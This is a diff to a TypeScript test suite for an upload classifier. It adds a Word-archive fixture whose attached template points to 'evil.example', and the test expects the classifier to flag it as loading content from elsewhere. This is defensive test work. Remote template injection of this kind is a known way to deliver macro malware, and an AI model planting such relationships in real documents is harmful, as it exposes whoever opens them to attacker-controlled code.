@@ -193,6 +193,22 @@ describe("documents", () => {
       ],
       "upload_macros",
     ],
+    [
+      "Word with a template on a server",
+      [
+        ["[Content_Types].xml", types],
+        ["word/_rels/settings.xml.rels", template("https://evil.example/a.dotm")],
+      ],
+      "upload_loads_from_elsewhere",
+    ],
+    [
+      "Word with its writer's template",
+      [
+        ["[Content_Types].xml", types],
+        ["word/_rels/settings.xml.rels", template("file:///C:\\Office\\Letter.dotx")],
+      ],
+      "docx",
+    ],
     ["any other archive", [["notes.txt", "x"]], "upload_unknown"],
   ] as const)("%s: %s", async (_, entries, code) => {
     expect(await codeOf(archive(entries.map(([name, text]) => ({ name, text }))))).toBe(code);
@@ -243,6 +259,11 @@ describe("on its way in", () => {
     expect(await readdir(place)).toEqual([]);
   });
 });
+
+function template(target: string): string {
+  const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
+  return `<Relationships><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+}
 
 /** A PNG whose header claims 60,000 by 60,000 pixels. */
 async function hugePng(): Promise<Buffer> {
